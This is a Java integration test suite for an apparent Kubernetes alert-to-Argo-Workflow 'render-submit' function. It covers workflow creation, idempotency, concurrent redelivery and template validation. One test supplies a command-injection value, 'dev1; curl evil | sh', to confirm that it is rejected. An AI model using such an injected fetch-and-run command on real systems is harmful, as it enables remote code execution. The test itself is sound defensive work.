package io.aegis.rendersubmit;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.aegis.kernel.crd.AegisAlert;
import io.aegis.kernel.crd.AegisOpsTemplate;
import io.aegis.kernel.crd.Condition;
import io.aegis.kernel.crd.OpsStatus;
import io.aegis.kernel.crd.TriggerStatus;
import io.aegis.kernel.events.AlertMatched;
import io.aegis.kernel.events.EventTypes;
import io.aegis.kernel.events.ResourceRef;
import io.aegis.kernel.events.WorkflowSubmitted;
import io.aegis.kernel.json.Json;
import io.aegis.kernel.testing.CloudEventsHttp;
import io.aegis.kernel.testing.KubeTestSupport;
import io.fabric8.kubernetes.api.model.GenericKubernetesResource;
import io.fabric8.kubernetes.api.model.OwnerReference;
import io.fabric8.kubernetes.client.KubernetesClient;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.TestConfiguration;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.annotation.Bean;

/**
 * render-submit over real HTTP CloudEvents (binary and structured mode, Knative's header case)
 * against fabric8's mock API server in CRUD mode with the Aegis and Argo CRDs.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class RenderSubmitFunctionIT {
  static final String NS = TestAlerts.NAMESPACE;
  static final KubeTestSupport KUBE = KubeTestSupport.start();

  @TestConfiguration
  static class MockCluster {
    @Bean
    KubernetesClient kubernetesClient() {
      return KUBE.client();
    }
  }

  @AfterAll
  static void stop() {
    KUBE.close();
  }

  @LocalServerPort int port;
  @Autowired KubernetesClient client;
  CloudEventsHttp http;

  @BeforeEach
  void clean() {
    http = CloudEventsHttp.to(port);
    client.resources(AegisAlert.class).inNamespace(NS).delete();
    client.resources(AegisOpsTemplate.class).inNamespace(NS).delete();
    client.genericKubernetesResources(KubeTestSupport.WORKFLOWS).inNamespace(NS).delete();
    client.v1().events().inNamespace(NS).delete();
  }

  // --- fixtures ---------------------------------------------------------------------------------

  AegisAlert createAlert(AegisAlert alert) {
    alert.getMetadata().setUid(null);
    var status = alert.getStatus();
    AegisAlert created = client.resource(alert).create();
    created.setStatus(status);
    return client.resource(created).updateStatus();
  }

  AegisOpsTemplate createTemplate(AegisOpsTemplate template) {
    return client.resource(template).create();
  }

  CloudEventsHttp.Event matched(AegisAlert alert, AegisOpsTemplate template) {
    ResourceRef a =
        new ResourceRef(NS, alert.getMetadata().getName(), alert.getMetadata().getUid());
    ResourceRef t =
        new ResourceRef(
            template.getMetadata().getNamespace(),
            template.getMetadata().getName(),
            template.getMetadata().getUid());
    return CloudEventsHttp.event(AlertMatched.TYPE)
        .source(EventTypes.sourceOf(EventTypes.MATCH_RULE))
        .subject(a.subject())
        .jsonData(new AlertMatched(a, ResourceRef.of(NS, "nodehasemergencyevent"), t));
  }

  CloudEventsHttp.Event templateEvent(String type, AegisOpsTemplate template) {
    return CloudEventsHttp.event(type)
        .source("https://10.96.0.1:443")
        .subject(
            "/apis/aegis.io/v1alpha1/namespaces/"
                + NS
                + "/aegisopstemplates/"
                + template.getMetadata().getName())
        .extension("kind", "AegisOpsTemplate")
        .extension("apiversion", "aegis.io/v1alpha1")
        .extension("name", template.getMetadata().getName())
        .extension("namespace", template.getMetadata().getNamespace())
        .jsonData(template);
  }

  AegisAlert alert(String name) {
    return client.resources(AegisAlert.class).inNamespace(NS).withName(name).get();
  }

  AegisOpsTemplate template(String name) {
    return client.resources(AegisOpsTemplate.class).inNamespace(NS).withName(name).get();
  }

  List<GenericKubernetesResource> workflows() {
    return client
        .genericKubernetesResources(KubeTestSupport.WORKFLOWS)
        .inNamespace(NS)
        .list()
        .getItems();
  }

  static Condition condition(List<Condition> conditions, String type) {
    return conditions.stream().filter(c -> type.equals(c.type)).findFirst().orElse(null);
  }

  // --- A21 --------------------------------------------------------------------------------------

  @Test
  void A21_readmeAlertMatchedCreatesItsWorkflowAndMarksTheAlertTriggeredPending() {
    AegisOpsTemplate template = createTemplate(TestTemplates.readme(NS));
    AegisAlert alert = createAlert(TestAlerts.readme());

    HttpResponse<String> response = http.binary(matched(alert, template));

    assertThat(response.statusCode()).isEqualTo(200);
    assertThat(CloudEventsHttp.header(response, "Ce-Type")).contains(WorkflowSubmitted.TYPE);
    assertThat(CloudEventsHttp.header(response, "Ce-Source")).contains("/aegis/render-submit");
    assertThat(CloudEventsHttp.header(response, "Ce-Subject"))
        .contains(NS + "/" + TestAlerts.README_NAME);
    WorkflowSubmitted reply =
        Json.read(
            response.body().getBytes(StandardCharsets.UTF_8), WorkflowSubmitted.class, "reply");

    List<GenericKubernetesResource> workflows = workflows();
    assertThat(workflows).hasSize(1);
    GenericKubernetesResource wf = workflows.get(0);
    assertThat(wf.getMetadata().getName())
        .matches(TestAlerts.README_NAME + "-[bcdfghjklmnpqrstvwxz2456789]{5}")
        .isEqualTo(reply.workflow().name());
    assertThat(wf.getMetadata().getNamespace()).isEqualTo(NS);
    assertThat(wf.getMetadata().getLabels())
        .containsAllEntriesOf(alert.getMetadata().getLabels())
        .containsEntry("aegis.io/alert", TestAlerts.README_NAME)
        .containsEntry("app.kubernetes.io/managed-by", "aegis");
    OwnerReference owner = wf.getMetadata().getOwnerReferences().get(0);
    assertThat(wf.getMetadata().getOwnerReferences()).hasSize(1);
    assertThat(owner.getController()).isTrue();
    assertThat(owner.getKind()).isEqualTo("AegisAlert");
    assertThat(owner.getApiVersion()).isEqualTo("aegis.io/v1alpha1");
    assertThat(owner.getName()).isEqualTo(TestAlerts.README_NAME);
    assertThat(owner.getUid()).isEqualTo(alert.getMetadata().getUid());
    JsonNode spec = Json.MAPPER.valueToTree(wf.getAdditionalProperties().get("spec"));
    assertThat(spec.at("/templates/0/container/command/2").asText())
        .isEqualTo("kubectl cordon dev1\n");
    assertThat(spec.at("/ttlStrategy/secondsAfterCompletion").asInt()).isEqualTo(60);
    assertThat(spec.has("ttlSecondsAfterFinished")).isFalse();

    AegisAlert after = alert(TestAlerts.README_NAME);
    assertThat(after.getStatus().opsStatus.triggerStatus).isEqualTo(TriggerStatus.Triggered);
    assertThat(after.getStatus().opsStatus.alertOpsStatus).isEqualTo(OpsStatus.Pending);
    assertThat(after.getStatus().opsStatus.total).isEqualTo(1);
    assertThat(after.getStatus().opsStatus.workflow).isEqualTo(wf.getMetadata().getName());
    assertThat(after.getStatus().opsStatus.rule).isEqualTo(NS + "/nodehasemergencyevent");
    assertThat(after.getStatus().opsStatus.template).isEqualTo(NS + "/nodehasemergencyevent");
    assertThat(condition(after.getStatus().conditions, "Triggered").status).isEqualTo("True");
    assertThat(after.getStatus().count).isEqualTo(1);

    assertThat(reply.alert())
        .isEqualTo(new ResourceRef(NS, TestAlerts.README_NAME, alert.getMetadata().getUid()));
    assertThat(reply.workflow().uid()).isEqualTo(wf.getMetadata().getUid());

    AegisOpsTemplate t = template("nodehasemergencyevent");
    assertThat(
            t.getStatus() == null
                || t.getStatus().executeStatus == null
                || t.getStatus().executeStatus.succeeded == 0)
        .as("succeeded is counted by track-status when the workflow succeeds")
        .isTrue();
  }

  @Test
  void A21_structuredModeWorksTheSame() {
    AegisOpsTemplate template = createTemplate(TestTemplates.readme(NS));
    AegisAlert alert = createAlert(TestAlerts.readme());

    HttpResponse<String> response = http.structured(matched(alert, template));

    assertThat(response.statusCode()).isEqualTo(200);
    assertThat(CloudEventsHttp.header(response, "Ce-Type")).contains(WorkflowSubmitted.TYPE);
    assertThat(workflows()).hasSize(1);
    assertThat(alert(TestAlerts.README_NAME).getStatus().opsStatus.triggerStatus)
        .isEqualTo(TriggerStatus.Triggered);
  }

  // --- A25, A29 ---------------------------------------------------------------------------------

  @Test
  void A25_undefinedVariableMarksTheAlertTemplateInvalidAndCountsATemplateFailure() {
    AegisOpsTemplate template =
        createTemplate(
            TestTemplates.of(
                NS,
                "undefined",
                TestTemplates.readme(NS).getSpec().manifest.replace("{{.node}}", "{{.nodeName}}")));
    AegisAlert alert = createAlert(TestAlerts.readme());

    HttpResponse<String> response = http.binary(matched(alert, template));

    assertThat(response.statusCode()).isEqualTo(202);
    assertThat(CloudEventsHttp.ceHeaderNames(response)).isEmpty();
    assertThat(workflows()).isEmpty();
    AegisAlert after = alert(TestAlerts.README_NAME);
    assertThat(after.getStatus().opsStatus.triggerStatus).isEqualTo(TriggerStatus.TemplateInvalid);
    assertThat(after.getStatus().opsStatus.message).contains("'nodeName' is not defined");
    assertThat(after.getStatus().opsStatus.completionTime).isNotNull();
    Condition triggered = condition(after.getStatus().conditions, "Triggered");
    assertThat(triggered.status).isEqualTo("False");
    assertThat(triggered.reason).isEqualTo("TemplateInvalid");
    assertThat(template("undefined").getStatus().executeStatus.failed).isEqualTo(1);
  }

  @Test
  void A29_aNodeDetailWithAnInjectionMarksTheAlertTemplateInvalidWithoutAWorkflow() {
    AegisOpsTemplate template = createTemplate(TestTemplates.readme(NS));
    AegisAlert alert =
        createAlert(
            TestAlerts.node(
                "default-nodehasemergencyevent-evil1",
                "dev1",
                Map.of("node", "dev1; curl evil | sh")));

    HttpResponse<String> response = http.binary(matched(alert, template));

    assertThat(response.statusCode()).isEqualTo(202);
    assertThat(workflows()).isEmpty();
    AegisAlert after = alert("default-nodehasemergencyevent-evil1");
    assertThat(after.getStatus().opsStatus.triggerStatus).isEqualTo(TriggerStatus.TemplateInvalid);
    assertThat(after.getStatus().opsStatus.message).contains("not a plain token");
  }

  // --- A33 --------------------------------------------------------------------------------------

  @Test
  void A33_theSameMatchedEventTwiceCreatesOneWorkflow() {
    AegisOpsTemplate template = createTemplate(TestTemplates.readme(NS));
    AegisAlert alert = createAlert(TestAlerts.readme());
    CloudEventsHttp.Event event = matched(alert, template);

    HttpResponse<String> first = http.binary(event);
    String afterFirst = alert(TestAlerts.README_NAME).getMetadata().getResourceVersion();
    HttpResponse<String> second = http.binary(event);

    assertThat(first.statusCode()).isEqualTo(200);
    assertThat(second.statusCode()).isEqualTo(202);
    assertThat(workflows()).hasSize(1);
    assertThat(alert(TestAlerts.README_NAME).getMetadata().getResourceVersion())
        .isEqualTo(afterFirst);
  }

  @Test
  void A33_theSameMatchedEventConcurrentlyCreatesOneWorkflow() throws Exception {
    AegisOpsTemplate template = createTemplate(TestTemplates.readme(NS));
    AegisAlert alert = createAlert(TestAlerts.readme());
    CloudEventsHttp.Event event = matched(alert, template);

    List<Integer> codes = concurrently(8, () -> http.binary(event).statusCode());

    assertThat(codes).allMatch(c -> c == 200 || c == 202).contains(200);
    assertThat(workflows()).hasSize(1);
    AegisAlert after = alert(TestAlerts.README_NAME);
    assertThat(after.getStatus().opsStatus.triggerStatus).isEqualTo(TriggerStatus.Triggered);
    assertThat(after.getStatus().conditions).filteredOn(c -> "Triggered".equals(c.type)).hasSize(1);
  }

  @Test
  void A33_aTemplateFailureIsCountedOnceUnderConcurrentRedelivery() throws Exception {
    AegisOpsTemplate template =
        createTemplate(
            TestTemplates.of(
                NS,
                "broken",
                TestTemplates.readme(NS).getSpec().manifest.replace("{{.node}}", "{{.nodeName}}")));
    AegisAlert alert = createAlert(TestAlerts.readme());
    CloudEventsHttp.Event event = matched(alert, template);

    List<Integer> codes = concurrently(8, () -> http.binary(event).statusCode());
    http.binary(event);

    assertThat(codes).containsOnly(202);
    assertThat(template("broken").getStatus().executeStatus.failed).isEqualTo(1);
    assertThat(alert(TestAlerts.README_NAME).getStatus().opsStatus.triggerStatus)
        .isEqualTo(TriggerStatus.TemplateInvalid);
  }

  static <T> List<T> concurrently(int n, Callable<T> call) throws Exception {
    ExecutorService pool = Executors.newFixedThreadPool(n);
    try {
      CountDownLatch start = new CountDownLatch(1);
      List<Future<T>> futures = new ArrayList<>();
      for (int i = 0; i < n; i++) {
        futures.add(
            pool.submit(
                () -> {
                  start.await();
                  return call.call();
                }));
      }
      start.countDown();
      List<T> results = new ArrayList<>();
      for (Future<T> f : futures) {
        results.add(f.get());
      }
      return results;
    } finally {
      pool.shutdownNow();
    }
  }

  // --- other outcomes ---------------------------------------------------------------------------

  @Test
  void alertsThatAlreadyHaveATriggerStatusAreLeftAlone() {
    AegisOpsTemplate template = createTemplate(TestTemplates.readme(NS));
    AegisAlert alert = TestAlerts.readme();
    alert.getStatus().opsStatus = new io.aegis.kernel.crd.AlertOpsStatus();
    alert.getStatus().opsStatus.triggerStatus = TriggerStatus.RuleNotFound;
    alert = createAlert(alert);

    HttpResponse<String> response = http.binary(matched(alert, template));

    assertThat(response.statusCode()).isEqualTo(202);
    assertThat(workflows()).isEmpty();
    assertThat(alert(TestAlerts.README_NAME).getStatus().opsStatus.triggerStatus)
        .isEqualTo(TriggerStatus.RuleNotFound);
  }

  @Test
  void aMissingTemplateMarksTheAlertTemplateNotFound() {
    AegisOpsTemplate template = TestTemplates.readme(NS);
    AegisAlert alert = createAlert(TestAlerts.readme());

    assertThat(http.binary(matched(alert, template)).statusCode()).isEqualTo(202);
    assertThat(alert(TestAlerts.README_NAME).getStatus().opsStatus.triggerStatus)
        .isEqualTo(TriggerStatus.TemplateNotFound);
  }

  @Test
  void aWorkflowOfTheSameNameThatIsNotTheAlertsMarksItTriggerFailed() {
    AegisOpsTemplate template = createTemplate(TestTemplates.readme(NS));
    AegisAlert alert = createAlert(TestAlerts.readme());
    GenericKubernetesResource squatter = new GenericKubernetesResource();
    squatter.setApiVersion("argoproj.io/v1alpha1");
    squatter.setKind("Workflow");
    squatter.setMetadata(
        new io.fabric8.kubernetes.api.model.ObjectMetaBuilder()
            .withNamespace(NS)
            .withName(WorkflowFactory.workflowName(alert))
            .build());
    client
        .genericKubernetesResources(KubeTestSupport.WORKFLOWS)
        .inNamespace(NS)
        .resource(squatter)
        .create();

    assertThat(http.binary(matched(alert, template)).statusCode()).isEqualTo(202);
    AegisAlert after = alert(TestAlerts.README_NAME);
    assertThat(after.getStatus().opsStatus.triggerStatus).isEqualTo(TriggerStatus.TriggerFailed);
    assertThat(after.getStatus().opsStatus.message).contains("is not owned by this alert");
  }

  @Test
  void aMatchedEventForAVanishedAlertIsHandledWithoutChange() {
    AegisOpsTemplate template = createTemplate(TestTemplates.readme(NS));
    AegisAlert alert = TestAlerts.readme();
    alert.getMetadata().setUid("gone");
    assertThat(http.binary(matched(alert, template)).statusCode()).isEqualTo(202);
    assertThat(workflows()).isEmpty();
  }

  @Test
  void aMalformedMatchedEventIsRejectedWith400() {
    HttpResponse<String> response =
        http.binary(CloudEventsHttp.event(AlertMatched.TYPE).data("{\"alert\": 3"));
    assertThat(response.statusCode()).isEqualTo(400);
  }

  // --- A20 (template half) ----------------------------------------------------------------------

  @Test
  void A20_theReadmeTemplateIsRecordedWithItsTtlWarningAndAWarningEvent() {
    AegisOpsTemplate template = createTemplate(TestTemplates.readme(NS));

    HttpResponse<String> response = http.binary(templateEvent(EventTypes.APISERVER_ADD, template));

    assertThat(response.statusCode()).isEqualTo(202);
    assertThat(CloudEventsHttp.ceHeaderNames(response)).isEmpty();
    AegisOpsTemplate after = template("nodehasemergencyevent");
    assertThat(after.getStatus().status).isEqualTo("Recorded");
    assertThat(after.getStatus().message)
        .contains("ttlSecondsAfterFinished")
        .contains("ttlStrategy");
    Condition valid = condition(after.getStatus().conditions, "Valid");
    assertThat(valid.status).isEqualTo("True");
    assertThat(valid.reason).isEqualTo("Recorded");
    assertThat(client.v1().events().inNamespace(NS).list().getItems())
        .singleElement()
        .satisfies(
            e -> {
              assertThat(e.getType()).isEqualTo("Warning");
              assertThat(e.getReason()).isEqualTo(TemplateValidation.EVENT_REASON);
              assertThat(e.getInvolvedObject().getName()).isEqualTo("nodehasemergencyevent");
              assertThat(e.getMessage()).contains("ttlStrategy");
            });
  }

  @Test
  void A20_aTemplateWhoseManifestIsNotYamlIsInvalidWithTheParseError() {
    AegisOpsTemplate template =
        createTemplate(
            TestTemplates.of(
                NS, "notyaml", "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nspec: [oops\n"));

    assertThat(http.binary(templateEvent(EventTypes.APISERVER_ADD, template)).statusCode())
        .isEqualTo(202);

    AegisOpsTemplate after = template("notyaml");
    assertThat(after.getStatus().status).isEqualTo("Invalid");
    assertThat(after.getStatus().message).contains("not valid YAML").contains("line");
    assertThat(condition(after.getStatus().conditions, "Valid").status).isEqualTo("False");
  }

  @Test
  void A20_anUnchangedResultWritesNothingAndAFixedTemplateBecomesRecorded() {
    AegisOpsTemplate template =
        createTemplate(
            TestTemplates.of(
                NS, "fixme", "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nspec: [oops\n"));
    http.binary(templateEvent(EventTypes.APISERVER_ADD, template));
    AegisOpsTemplate invalid = template("fixme");

    HttpResponse<String> again = http.binary(templateEvent(EventTypes.APISERVER_UPDATE, invalid));

    assertThat(again.statusCode()).isEqualTo(202);
    assertThat(template("fixme").getMetadata().getResourceVersion())
        .isEqualTo(invalid.getMetadata().getResourceVersion());

    invalid.getSpec().manifest =
        TestTemplates.readme(NS).getSpec().manifest.replace("  ttlSecondsAfterFinished: 60\n", "");
    AegisOpsTemplate fixed = client.resource(invalid).update();
    http.binary(templateEvent(EventTypes.APISERVER_UPDATE, fixed));
    AegisOpsTemplate after = template("fixme");
    assertThat(after.getStatus().status).isEqualTo("Recorded");
    assertThat(after.getStatus().message).isNull();
    assertThat(client.v1().events().inNamespace(NS).list().getItems()).isEmpty();
  }

  @Test
  void apiServerEventsForOtherKindsAreNotForUs() {
    HttpResponse<String> response =
        http.binary(
            CloudEventsHttp.event(EventTypes.APISERVER_UPDATE)
                .extension("kind", "Workflow")
                .extension("name", "x")
                .extension("namespace", NS)
                .data("{\"kind\":\"Workflow\"}"));
    assertThat(response.statusCode()).isEqualTo(202);
    assertThat(CloudEventsHttp.ceHeaderNames(response)).isEmpty();
  }

  @Test
  void otherEventTypesAreRejected() {
    HttpResponse<String> response =
        http.binary(CloudEventsHttp.event(WorkflowSubmitted.TYPE).data("{}"));
    assertThat(response.statusCode()).isEqualTo(400);
  }
}
